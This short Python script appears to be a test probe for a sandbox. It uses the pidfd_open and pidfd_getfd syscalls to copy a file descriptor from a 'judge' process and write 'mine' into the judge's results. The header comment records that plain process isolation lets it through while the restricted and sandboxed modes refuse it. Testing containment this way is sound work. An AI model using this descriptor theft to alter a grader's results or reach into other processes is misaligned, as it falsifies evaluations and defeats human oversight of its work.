# Takes a copy of the judge's descriptor of the results.
# process: reached; restricted, sandbox: refused
import os

from attack import syscall

PIDFD_OPEN, PIDFD_GETFD = 434, 438
judge = syscall(PIDFD_OPEN, int(os.environ["JUDGE"]), 0)
os.write(syscall(PIDFD_GETFD, judge, int(os.environ["DESCRIPTOR"]), 0), b"mine")
